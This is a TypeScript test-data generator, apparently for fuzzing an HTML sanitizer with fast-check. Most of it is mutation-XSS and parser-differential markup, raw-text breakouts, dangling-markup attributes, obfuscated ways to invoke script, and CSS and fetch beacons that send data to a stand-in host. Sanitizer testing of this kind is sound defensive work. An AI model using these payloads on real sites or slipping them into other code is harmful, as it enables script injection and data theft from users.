/**
 * Markup that parses anew, that a parser of the past read otherwise, or that swallows what follows; and the
 * ways to spell a script. What it was compared with is said in `hostile-vectors.ts`.
 */
import fc from 'fast-check';
import { base64, nextNumber, percent, run, type Say, say, ticked, told, words } from './hostile-vectors';

type Shape = (p: Say) => string;
const inParent = (code: string): string => `parent.Function(\`${code}\`)()`;

/** One example of each. */
const SHAPES: Shape[] = [
  (p) => `<noscript><p title="</noscript><img src=x onerror=${p()}>"></noscript>`,
  (p) => `<noscript><img src="x:y" onerror="${p()}" alt="Ant Group"></noscript><img src="data:,">`,
  (p) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${p()}&gt;">`,
  (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p()}>">`,
  (p) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${p()}">`,
  (p) => `<textarea><img src=x onerror="${p()}"></textarea><xmp><img src=x onerror="${p()}"></xmp>`,
  (p) => `<template><img src=x onerror="${p()}"><script>${p()}</script></template>`,
  (p) =>
    `<div data-html="<img src=x onerror='${ticked(p())}'>" title="<script>${p()}</script>" aria-label="</title><svg onload=${p()}>">x</div>`,
  (p) =>
    `<svg><script>${p()}</script><animate onbegin="${p()}" attributeName=x dur=1s><set onend="${p()}" dur=.01s /><foreignObject><iframe srcdoc="<script>${inParent(p())}</script>"></iframe></foreignObject></svg>`,
  (p) => `<iframe srcdoc="<script>try{${p()}}catch(e){}</script><p>Jack Ma"></iframe>`,
  (p) => `<div><template shadowrootmode="closed"><p>Jack Ma<img src=x onerror="${p()}"></p></template></div>`,
  (p) => `<p style="background:url(javascript:${p()});behavior:url(x);-moz-binding:url(x)">Ant Group</p>`,
  (p) => `<!--><img src=x onerror="${p()}">--><![CDATA[<img src=x onerror="${p()}">]]>`,
  (p) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${p()}"></style></annotation-xml></math>`,
  (p) => `<svg><desc><style><img src=x onerror="${p()}"></style></desc><title><img src=x onerror="${p()}"></title></svg>`,
  (p) => `<select><template><img src=x onerror="${p()}"></template><option>Ant Group</select>`,
  (p) => `<table><caption><svg><style><img src=x onerror="${p()}"></table>`,
  (p) =>
    `<noembed><img src="</noembed><img src=x onerror=${p()}>"></noembed><noframes><p title="</noframes><img src=x onerror=${p()}>"></noframes>`,
  (p) => `<xml id=x><x><b><img src=x onerror="${p()}"></b></x></xml><listing>&lt;img src=x onerror=${p()}&gt;</listing>`,
  (p) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${p()}</script></svg>#x"/><a><animate attributeName=href values="javascript:${p()}"/><text y=20>Jack Ma</text></a></svg>`,
  (p) => `<meta http-equiv=refresh content="600;url=javascript:${p()}"><style>@import 'javascript:${p()}';*{x:expression(${p()})}</style>`,
  (p) => `<object data="data:text/html,<script>${p()}</script>"><param name=src value="javascript:${p()}"></object>`,
  (p) =>
    `<input type=image src=x:y onerror="${p()}"><video><source src=x:y onerror="${p()}"></video><details open ontoggle="${p()}">Ma</details>`,
  (p) => `<div popover id=q onbeforetoggle="${p()}">Jack Ma</div><button popovertarget=q>Ant Group</button>`,
  (p) =>
    `<a href="javascript&colon;${p()}">Ant</a> <a href="jav&Tab;ascript:${p()}">Group</a> <math><maction xlink:href="javascript:${p()}" href="javascript:${p()}">Jack Ma</maction></math>`,
  (p) => `<p>{{constructor.constructor("${p()}")()}} \${${p()}} &lt;%= ${p()} %&gt; &lt;?php ${p()} ?&gt; Ant Group</p>`,
  (p) => `<p>Jack <!-- ${p()} --> Ma &lt;img src=x onerror=${p()}&gt; \u202E\u2066Group tnA\u2069\u202C \u0000 \uFFFF </p>`,
  // Comments and things that look like one.
  (p) => `<!--><svg onload=${p()}>--><!--[if gte IE 4]><script>${p()}</script><![endif]--><!--[if]><script>${p()}</script -->`,
  (p) => `<!--<img src="--><img src=x:y onerror=${p()}//"><comment><img src="</comment><img src=x:y onerror=${p()}//"></comment>`,
  (p) => `<!-\u0000- ><img title="--><iframe/onload=${p()}>"> --><!-- \`<img/src=x:y onerror=${p()}//--!><b>Jack Ma</b>-->`,
  (p) =>
    `<? foo="><script>${p()}</script>"><! foo="><script>${p()}</script>"></ foo="><script>${p()}</script>"><% foo><x foo="%><script>${p()}</script>">`,
  (p) => `<! '="foo"><x foo='><img src=x:y onerror=${ticked(p())}//'><!a foo=x=\`y><img alt="\`><img src=x:y onerror=${p()}//">`,
  (p) => `<svg><![CDATA[><image xlink:href="]]><img src=x:y onerror=${p()}//"></svg><![><img src="]><img src=x:y onerror=${p()}//">`,
  (p) => `<!--<![CDATA[<img src=x:y onerror=${p()}>]]>--><xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=x:y onerror=${ticked(p())}//'>`,
  (p) =>
    `<?xml-stylesheet href="javascript:${p()}"?><?import namespace="t" implementation="#default#time2"><?php echo '<img src=x:y onerror=${ticked(p())}>' ?>`,
  // Tags and attributes at the edge of what is one.
  (p) => `<b <script>${p()}//</script>0</script></b><b><script<b></b>${p()}</script </b></b><script<{${p()}}/></script </>`,
  (p) => `<img/src="x:y"/onerror="${p()}"/alt=Ma><svg/onload=${p()}><img\u000Bsrc=x:y\u000Bonerror=${p()}><IMG SRC=X:Y ONERROR="${p()}">`,
  (p) => `<img src onerror /" '"= alt=${p()}//"><img src=x:y onerror\u0000=${p()}><img src=x:y onerror = "${p()}" onerror="${p()}">`,
  (p) =>
    `<img src="x\` \`<script>${p()}</script>"\` \`><input value="\`\`onmouseover=${p()}"><x '="foo"><x foo='><img src=x:y onerror=${ticked(p())}//'>`,
  (p) => `<// style=x:expression\\28${p()}\\29><x xmlns="><iframe onload=${p()}"></x><x xmlns='"><iframe onload=${ticked(p())}//'></x>`,
  (p) => `<svg onload=${p()}<!--><p>Jack Ma</p><input type=hidden type=image src=x:y onerror="${p()}"><image src/onerror=${p()}>`,
  (p) =>
    `<script>/*<!--<script>*/${p()}/*</script>*/</script><script><!--\n${p()}\n// --></script><script>x='<%'\n</script> %>/\n${p()}\n</script>`,
  (p) =>
    `<script src="#">{${p()}}</script><SCRIPT FOR=document EVENT=onreadystatechange>${p()}</SCRIPT><script xmlns="http://www.w3.org/1999/xhtml">&#x${(0x77).toString(16)};${p().slice(1)}</script>`,
  // SVG, MathML and what is embedded.
  (p) =>
    `<svg><a xlink:href="?"><circle r=400 /><animate attributeName="xlink:href" begin=0 from="javascript:${p()}" to="&"/></a><g onload="${p()}"/><xss onload=${p()}></svg>`,
  (p) =>
    `<svg><animate xlink:href=#q1 attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 values="x:y&semi;javascript:${p()}&semi;0"/><set xlink:href=#q1 attributeName=href from=? to="javascript:${p()}"/><a id=q1><text x=20 y=20>Ant Group</text></a></svg>`,
  (p) =>
    `<svg><set attributeName=onmouseover to="${p()}"/><animate attributeName=onload to="${p()}"/><set attributeName=innerHTML to="&lt;img src=x:y onerror=${p()}&gt;"/><discard onbegin=${p()} /></svg>`,
  (p) =>
    `<svg><path><animateMotion onbegin="${p()}" onend="${p()}" onrepeat="${p()}" dur=.05s repeatCount=2 /></path><animateTransform onbegin="${p()}" onend="${p()}" onrepeat="${p()}" attributeName=transform dur=.05s repeatCount=2 /></svg>`,
  (p) =>
    `<svg><script href="data:text/javascript,${p()}" /><script xlink:href="data:,${p()}"></script><handler ev:event=load>${p()}</handler><listener event=load handler=#q2 observer=q3 /></svg>`,
  (p) =>
    `<svg><image href=x:y onerror="${p()}"/><feImage><set attributeName=xlink:href to="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ticked(p())}'/>"/></feImage><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>${ticked(p())}</script></svg>")'/></svg>`,
  (p) =>
    `<svg><foreignObject><body onload=${p()}><math><mtext><svg><style><img src=x:y onerror=${p()}></style></svg></mtext></math></foreignObject></svg>`,
  (p) => `<svg><script>window.__x&DiacriticalGrave;1&DiacriticalGrave;,${p()}\n<p><svg><script>&#119;${p().slice(1)}</script></svg>`,
  (p) =>
    `<math href="javascript:${p()}">Ant Group</math><math><x href="javascript:${p()}">Jack Ma</x><maction actiontype="statusline#http://x.example" xlink:href="javascript:${p()}">Ma<mtext>x</mtext></maction></math>`,
  (p) =>
    `<math><mtext><table><mglyph><svg><mtext><textarea><img src=x:y onerror=${p()}></textarea><path id="</textarea><img src=x:y onerror=${p()}>">`,
  (p) =>
    `<object data="data:text/html;base64,${base64('<b>Ma')}" onload="${p()}" onerror="${p()}"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ticked(p())}'/>" type=image/svg+xml><object type=text/html><param name=url value="javascript:${p()}"><param name=movie value="javascript:${p()}"><param name=code value="javascript:${p()}"></object>`,
  (p) =>
    `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:${p()}"></object><object type="application/x-shockwave-flash" allowscriptaccess=always data="//boos.example/x.swf?js=${p()}"></object><applet code=x onerror="${p()}"></applet>`,
  (p) =>
    `<iframe srcdoc="&lt;img src&equals;x:y onerror&equals;&quot;${p()}&quot;&gt;"></iframe><iframe src="about:blank" name="${p()}" onload="${p()}"></iframe><iframe sandbox srcdoc="<img src=x:y onerror='${ticked(p())}'>"></iframe>`,
  (p) =>
    `<iframe src="x:y" srcdoc="<x-own tabindex=1 autofocus onbegin='${ticked(p())}'><script>try{${inParent(p())}}catch(e){}</script>"></iframe><iframe onload="${p()}" sandbox="allow-same-origin allow-forms allow-scripts" src="//boos.example/none"></iframe>`,
  (p) =>
    `<video controls><source src=x:y onerror="${p()}"><track default src="data:text/vtt,WEBVTT%0A%0A00:00.000 --> 00:05.000%0A<b>Ma" onload="${p()}" oncuechange="${p()}"></video><audio src=x:y onerror="${p()}"></audio>`,
  (p) =>
    `<picture><source srcset="x:y"><img onerror="${p()}"></picture><picture><img srcset=x:y onerror="${p()}"></picture><img srcset=",,,,,x:y" onerror="${p()}"><image srcset=x:y onerror="${p()}">`,
  (p) =>
    `<link rel=stylesheet href=x:y onerror="${p()}"><link rel=stylesheet href="data:text/css," onload="${p()}"><style onload="${p()}"></style><script src=x:y onerror="${p()}"></script><script src="data:," onload="${p()}"></script>`,
  // Style sheets.
  (p) =>
    `<div style="xss:expressio\\6e(${p()});behavior:url(#default#time2);-o-link:'javascript:${p()}';-o-link-source:current;list-style:url(javascript:${p()});-moz-bindin\\67:url(x)">Ant Group</div>`,
  (p) =>
    `<li style="list-style:url()" onerror="${p()}"></li><div style="content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden" onload="${p()}"></div><div style="font-family:'foo\nbar;color:red;';background:url(/f#\noo/;color:red/*/foo.jpg);background:url('javascript:${p()}')">Ma</div>`,
  (p) =>
    `<style>p[foo=bar{}*{-o-link:'javascript:${p()}'}{}*{background:url(xx:x //**/\\red/*)}]{color:inherit}*[{}@import'//boos.example/x.css?]{color:inherit}<!--\n--><!--*{x:ｅｘｐｒｅｓｓｉｏｎ(${p()})}</style>`,
  (p) =>
    `<style>input[value^="4"]{background:url(//boos.example/leak?4)}@font-face{font-family:q;src:url(//boos.example/leak?A);unicode-range:U+41}</style><input value=42 onanimationstart="${p()}" style="font-family:q">`,
  (p) =>
    `<style>@keyframes q{from{left:0}to{left:1px}}</style><b style="position:relative;animation:q .05s 2" onanimationstart="${p()}" onanimationend="${p()}" onanimationiteration="${p()}" onwebkitanimationend="${p()}">Jack Ma</b>`,
  (p) =>
    `<svg><rect style="clip-path:url(//boos.example/x.svg#a);fill:url(#b);filter:url(#c);mask:url(#e)" onload="${p()}" /><path style="marker-start:url(data:image/svg+xml,%3Csvg%20onload=%22${percent(p())}%22/%3E#a)"/></svg>`,
  (p) =>
    `<style>*[title="</style><img src=x:y onerror=${p()}>"]{}</style><style><img src="</style><img src=x:y onerror=${p()}//"></style><div style="font-family:'sans\\27\\2F\\2A\\22\\2A\\2F\\3B color\\3Ared\\3B'">Ma</div>`,
  // Forms, links and labels that act for another.
  (p) =>
    `<form action="javascript:${p()}"><input type=submit id=q4></form><label for=q4>Jack Ma</label><form id=q5></form><button form=q5 formaction="javascript:${p()}">Ant Group</button>`,
  (p) =>
    `<input type=hidden accesskey=x onclick="${p()}" oncontentvisibilityautostatechange="${p()}" style="content-visibility:auto"><link rel=canonical accesskey=x onclick="${p()}"><a href="%0a${p()}" onclick="protocol='javascript'">Ma</a>`,
  (p) =>
    `<form><input name=username value=x><input name=q dirname=username value="${p()}"><input pattern="^((a+.)a)+$" value=aaa! oninvalid="${p()}" required><output onforminput="${p()}">Ma</output></form>`,
  (p) =>
    `<a href="//boos.example/x" target="${p()}" rel=noreferrer ping="javascript:${p()}"><iframe srcdoc=x></iframe><a style="position:absolute" onclick="${p()}">Ant Group</a></a><map name=q6><area href="javascript:${p()}" shape=default></map><img usemap=#q6 src=x:y>`,
  (p) =>
    `<base href="javascript:/a/-${p()}///////"><a href="../Ant%20Group">Ant Group</a><a href="/. /,${p()}//#">Jack Ma</a><base target="${p()}">`,
  (p) =>
    `<div draggable=true ondragstart="event.dataTransfer.setData('text/html','<img src=x:y onerror=${ticked(p()).replaceAll('`', '&#92;&#39;')}>')">Jack Ma</div><div contenteditable ondragover="${p()}">feed:javascript:${p()}</div>`,
  (p) =>
    `<button commandfor=q7 command=show-popover>Ma</button><div id=q7 popover oncommand="${p()}" ontoggle="${p()}" onbeforetoggle="${p()}">Ant Group</div><details name=q8 open ontoggle="${p()}">x</details><details name=q8 open ontoggle="${p()}">y</details>`,
  (p) =>
    `<b id=q9 hidden=until-found onbeforematch="${p()}">Jack Ma Ant Group</b><dialog open onclose="${p()}" oncancel="${p()}"><form method=dialog><button>Cookies</button></form></dialog>`,
  // Code that waits in a text for a handler that runs it.
  (p) =>
    `<img src=x:y title="${p()}" onerror="Function(title)()"><a id=qa title="${p()}" href="javascript:Function(qa.title)()">Ma</a><img alt="${p()}" src=x:y onerror="attributes[2].value=alt" onload="">`,
  (p) =>
    `<script>name="${p()}"</script><svg onload="Function(name)()"></svg><input value="javascript:${p()}" type=button id=onclick onclick="Function(value)()">`,
  (p) =>
    `<div ng-app ng-csp ng-focus="$event.composedPath()|orderBy:'(z=alert)(${p()})'" v-html="''.constructor.constructor('${ticked(p())}')()" x-init="${p()}" @click="${p()}" :href="'javascript:${p()}'">{{$on.constructor("${p()}")()}} {{{}.")));${p()}//"}} Ma</div>`,
  // For several places of a page at once.
  (p) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${ticked(p())}//'>`,
  (p) =>
    `"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html onmouseout=/*&lt;svg/*/onload="${p()}"><details/open/ontoggle='+/\`/+/"/+/[*/[]/+${ticked(p())}//'>`,
  (p) => `'-${p()}-'"/onfocusout="${p()}"/autofocus/ \`-\${${p()}}-\` &apos;-${p()}-&#39; </p>\u2028${p()}`,
  // Shadow trees, custom elements, templates in templates.
  (p) =>
    `<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><slot name=q onslotchange="${p()}"></slot><style onload="${p()}"></style><img src=x:y onerror="${p()}"></template><p slot=q>Jack Ma</p></div>`,
  (p) =>
    `<template><template><img src=x:y onerror="${p()}"></template></template><content select=x onload="${p()}"></content><shadow-root><slot name=q></slot></shadow-root><b is=x-own onload="${p()}">Ma</b>`,
  // Character sets that are read otherwise.
  (p) =>
    `<meta charset=utf-7><meta http-equiv=Content-Type content="text/html; charset=x-imap4-modified-utf7">+ADw-script+AD4-${p()}+ADw-/script+AD4- &ADw-script&AD4-${p()} <meta charset=x-mac-farsi>¼script ¾${p()}//¼/script ¾ À¼script>${p()}</script>`,
  (p) =>
    `<a title="\u001B$B"></a>\u001B(B<a title="><img src=x:y onerror=${p()}>"></a> \u001B(J\\<img alt="\\"onerror=${p()} src=x:y"> ＜script＞${p()}＜/script＞`,
  // What only dead browsers knew.
  (p) =>
    `<x:set xmlns:x="urn:schemas-microsoft-com:time" style="behavior:url(#default#time2)" attributeName=innerHTML to="&lt;img src=x:y onerror=${p()}&gt;"></x:set><vmlframe xmlns="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" src="javascript:${p()}"></vmlframe><xml:namespace prefix=t><import namespace=t implementation="#default#time2">`,
  (p) =>
    `<card xmlns="http://www.wapforum.org/2001/wml"><onevent type=ontimer><go href="javascript:${p()}"></onevent><timer value=1></card><label dataformatas=html datasrc=#q datafld="${p()}"></label><a title="&{${p()}}">Ma</a><a href=# language=vbs onclick="vbscript:MsgBox+1">Ma</a>`,
  (p) =>
    `<event-source src="//boos.example/x" onload="${p()}"><x repeat=template repeat-start=2>Ma</x><stylesheet xmlns="http://www.w3.org/TR/WD-xsl"><eval>${p()}</eval></stylesheet><!DOCTYPE x[<!ENTITY x SYSTEM "http://boos.example/x">]><y>&x;</y>`,
  (p) =>
    `<script>({set/**/$($){_/**/setter=$,_=1}}).$=()=>{${p()}}</script><script>ReferenceError.prototype.__defineGetter__('name',()=>{${p()}});x</script><script>[{'a':Object.prototype.__defineSetter__('q',()=>{${p()}}),'q':1}]</script><script>({0:#0=()=>{${p()}}})</script>`,
  // Scripts that are lifted, written or put in.
  (p) =>
    `<script>none(13);var a="";function none(){${p()}}</script><script>none.at.all(""+(${p()}));function none(){}</script><script type=module>import "data:text/javascript,${p()}";none.at.all()</script>`,
  (p) =>
    `<script>document.write("<img src=x:y onerror=\\"${p()}\\">")</script><script>{const q=document.createRange().createContextualFragment("<img src=x:y onerror=\\"${p()}\\">");document.body.append(q)}</script>`,
  (p) =>
    `<script>function atob(){${p()}}function fetch(){${p()}}function getComputedStyle(){${p()}}function getSelection(){${p()}}function matchMedia(){${p()}}function requestIdleCallback(){${p()}}</script>`,
  (p) =>
    `<script>Event.prototype.toString=Error.prototype.toString;for(const e of "devicemotion deviceorientation message hashchange select transitionstart transitionend pagereveal beforeprint storage".split(" "))window["on"+e]=()=>{${p()}}</script>`,
];

/** Elements whose content is text for one parser and markup for another. */
const RAW = words('noembed noscript style script iframe xmp textarea noframes title comment listing plaintext math template');
type Raw = (tag: string, p: Say) => string;
const SWALLOWS: Raw[] = [
  (tag, p) => `<${tag}><img title="</${tag}><img src=x:y onerror=${p()}>"></${tag}>`,
  (tag, p) => `<select><${tag}></select><img src=x:y onerror=${p()}></${tag}></select>`,
  (tag, p) => `<${tag}><!--</${tag}><img src=x:y onerror=${p()}>--></${tag}>`,
  (tag, p) => `<${tag}>&lt;/${tag}&gt;&lt;img src=x:y onerror=${p()}&gt;</${tag}>`,
  (tag, p) => `<svg><${tag}><a id="</${tag}><img src=x:y onerror=${p()}>"></${tag}></svg>`,
  (tag, p) =>
    `<math><mtext><${tag}><img src=x:y onerror=${p()}></${tag}></mtext><${tag}><a title="</${tag}><img src=x:y onerror=${p()}>"></${tag}></math>`,
  (tag, p) =>
    `<svg><foreignObject><${tag}><img src=x:y onerror=${p()}></${tag}></foreignObject><desc><${tag}><img src=x:y onerror=${p()}></${tag}></desc></svg>`,
  (tag, p) => `<table><${tag}><tr><td></${tag}><img src=x:y onerror=${p()}></table>`,
  (tag, p) => `<template><${tag}></template><img src=x:y onerror=${p()}></${tag}></template>`,
  (tag, p) => `<p title="</${tag}><img src=x:y onerror=${p()}>" alt='<${tag}>'>Jack Ma</p>`,
];
const swallowing = fc
  .tuple(fc.constantFrom(...RAW.filter((tag) => tag !== 'plaintext')), fc.constantFrom(...SWALLOWS))
  .map(([tag, make]) => make(tag, say));

/** Elements in an order that a parser changes: each time it is written out and read it may come out otherwise. */
const NEST = words(`
  svg math mtext mi mo mn ms mglyph malignmark annotation-xml semantics desc title foreignObject style table caption
  colgroup tr td form select option optgroup button p a nobr b i font template noscript h1 li dd ruby rt frameset
  body html head br hr details summary marquee object applet fieldset dialog image textarea`);
const LEAVES: Shape[] = [
  (p) => `<img src=x:y onerror="${p()}">`,
  (p) => `<style><!--</style><img src=x:y onerror="${p()}">--></style>`,
  (p) => `<a id="</style></title></textarea></noscript><img src=x:y onerror=${p()}>">Jack Ma</a>`,
  (p) => `<![CDATA[<img src=x:y onerror=${p()}>]]>`,
  (p) => `<!--<img title="--><img src=x:y onerror=${p()}>">`,
  (p) => `<script>${p()}</script>`,
  (p) => `<svg onload="${p()}"></svg>`,
  (p) => `&lt;img src=x:y onerror=${p()}&gt;`,
  (p) => `<iframe onload="${p()}"></iframe>`,
  (p) => `<annotation-xml encoding="application/xhtml+xml"><b title="${p()}">Ma</b></annotation-xml>`,
];
const nested = fc
  .record({
    nest: fc.array(fc.constantFrom(...NEST), { minLength: 2, maxLength: 9 }),
    leaf: fc.constantFrom(...LEAVES),
    // Closed from the inside out, from the outside in, or not: what follows is then inside too.
    close: fc.constantFrom('right', 'right', 'right', 'wrong', 'half', 'not'),
  })
  .map(({ nest, leaf, close }) => {
    const open = nest.map((tag) => (tag === 'annotation-xml' ? `<${tag} encoding="text/html">` : `<${tag}>`));
    const ends = nest.map((tag) => `</${tag}>`);
    const closed = { right: ends.toReversed(), wrong: ends, half: ends.toReversed().slice(nest.length / 2), not: [] }[close];
    return `${open.join('')}${leaf(say)}${closed.join('')}`;
  });

/** An attribute that is not closed takes all that follows, up to the next such quote, with it to another address. */
const dangling = fc
  .tuple(
    fc.constantFrom(
      ...`img src|image src|body background|table background|link rel=stylesheet href|link rel=icon href|video poster|
      video><track default src|video><source src|audio><source src|input type=image src|form><button formaction|form action|
      object data|iframe src|embed src|isindex type=image src|base href|base target|iframe name|a target|form target|
      form><input type=submit formtarget|meta http-equiv=refresh content|a title|script src`
        .split('|')
        .map((place) => place.trim()),
    ),
    fc.constantFrom('"', "'"),
  )
  .map(([place, quote]) => `<b onbegin="${say()}" title='${ticked(say())}'>Ma</b><${place}=${quote}//boos.example/eaten?`);

/** Ways to spell "self.__x" without its letters in a row. */
const KEYS = [
  "'_'+'_x'",
  '/__x/.source',
  "'\\x5f_x'",
  "'\\137_x'",
  "'\\u005f_x'",
  "'\\u{0000005f}_x'",
  '`_`+`_x`',
  "'_\\_x'",
  "'_'+[]+'_x'",
  "/*a*/'__x'/*b*/",
  "atob('X194')",
  "unescape('%5f_x')",
  "decodeURIComponent('%5F_x')",
  'String.fromCharCode(95,95,120)',
  'String.fromCodePoint(0x5f,95,120)',
  "'__'+33..toString(34)",
  "'__'+33n.toString(34)",
  "'__'+0b100001.toString(34)",
];
const inKeys = fc.tuple(fc.constantFrom('window', 'self', 'top', 'parent', 'frames', 'globalThis', 'this'), fc.constantFrom(...KEYS)).map(
  ([object, key]) =>
    (id: number): string =>
      `${object}[${key}]?${object}[${key}](${id}):(new(Image)).src='http://boos.example/ran?${id}'`,
);
const entities = (code: string, one: (char: number) => string): string => [...code].map((char) => one(char.charCodeAt(0))).join('');
const text = (id: number): string => `atob('${base64(run(id))}')`;
const SPELLINGS: ((id: number) => string)[] = [
  (id) => run(id).replaceAll('__x', '\\u005f_x'),
  (id) => run(id).replaceAll('__x', '\\u{5f}_x'),
  (id) => run(id).replaceAll('__x', '\\u{00000000005f}_x'),
  (id) => `window.__x&&__x\`${id}\``,
  (id) => `window.__x&&[${id}].map(__x)`,
  (id) => `window.__x&&Reflect.apply(__x,0,[${id}])`,
  (id) => `eval(${text(id)})`,
  (id) => `(0,eval)(unescape('${percent(run(id))}'))`,
  (id) => `Function(${text(id)})()`,
  (id) => `Function\`${run(id)}\`\`\``,
  (id) => `[].constructor.constructor(${text(id)})()`,
  (id) => `0..constructor.constructor(${text(id)})()`,
  (id) => `atob.constructor(${text(id)})()`,
  (id) => `setTimeout(${text(id)})`,
  (id) => `${text(id)} instanceof{[Symbol.hasInstance]:eval}`,
  (id) => `self.onerror=()=>{${run(id)}};throw 1`,
  (id) => `{globalThis.onerror=()=>{${run(id)}}}throw 1`,
  (id) => `throw/**/frames.onerror=()=>{${run(id)}},1`,
  (id) => `throw[window.onerror]=[()=>{${run(id)}}],1`,
  (id) => `var{a:onerror=()=>{${run(id)}}}=0;throw 1`,
  (id) => `new class{constructor(){${run(id)}}}`,
  (id) => `''+{toString(){${run(id)};return ''}}`,
  (id) => `Promise.resolve().then(()=>{${run(id)}})`,
  (id) => `location='javascript:void(${percent(run(id))})'`,
  (id) => `location.replace('javascript:void(${percent(run(id))})')`,
  (id) => `window.navigation&&navigation.navigate('javascript:void(${percent(run(id))})')`,
  (id) => `name='javascript:void(${percent(run(id))})';location=name`,
  (id) => `import('data:text/javascript,${percent(run(id))}')`,
  (id) => `new Worker('data:text/javascript,fetch(%22http://boos.example/ran?${id}%22,{mode:%22no-cors%22})')`,
  (id) =>
    `new Worker(window.URL.createObjectURL(new Blob(['fetch(&quot;http://boos.example/ran?${id}&quot;)'.replaceAll('&quot;','\\x22')])))`,
  (id) => `{const s=document.createElement('script');s.append(${text(id)});document.head.append(s);s.remove()}`,
  (id) =>
    `{const s=document.createElement('script');s.src=window.URL.createObjectURL(new Blob([${text(id)}],{type:'text/javascript'}));document.head.append(s);s.remove()}`,
];
const CONTAINERS: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<SCRIPT LANGUAGE=JavaScript1.2>//<![CDATA[\n${code}\n//]]></SCRIPT>`,
  (code) => `<svg><script>${entities(code, (char) => `&#${char};`)}</script></svg>`,
  (code) => `<svg><script>x="&quot;;${code}//";</script></svg>`,
  (code) => `<img src=x:y onerror="${code}">`,
  (code) => `<svg onload="${code}"></svg>`,
  (code) => `<img src=x:y onerror="${entities(code, (char) => `&#x${char.toString(16)};`)}">`,
  (code) => `<img src=x:y onerror=${entities(code, (char) => `&#000${char};`)}>`,
  (code) => `<a href="javascript:${code}">Ant Group</a>`,
  (code) => `<a href="javascript:${percent(code)}">Jack Ma</a>`,
  (code) => `<details open ontoggle="x='';${code}">Ma</details>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<p title="${code}">${code}</p>`,
];
const spelled = fc
  .tuple(
    fc.oneof({ arbitrary: fc.constantFrom(...SPELLINGS), weight: 2 }, { arbitrary: inKeys, weight: 1 }),
    fc.constantFrom(...CONTAINERS),
  )
  .map(([spell, contain]) => {
    const id = nextNumber();
    return told(contain(spell(id)), id);
  });

/** Markup of each of these kinds, as often as there are ways to make one. */
export const hostileMarkup = fc.oneof(
  { arbitrary: fc.constantFrom(...SHAPES).map((make) => make(say)), weight: 10 },
  { arbitrary: swallowing, weight: 4 },
  { arbitrary: nested, weight: 4 },
  { arbitrary: spelled, weight: 5 },
  { arbitrary: dangling, weight: 1 },
);
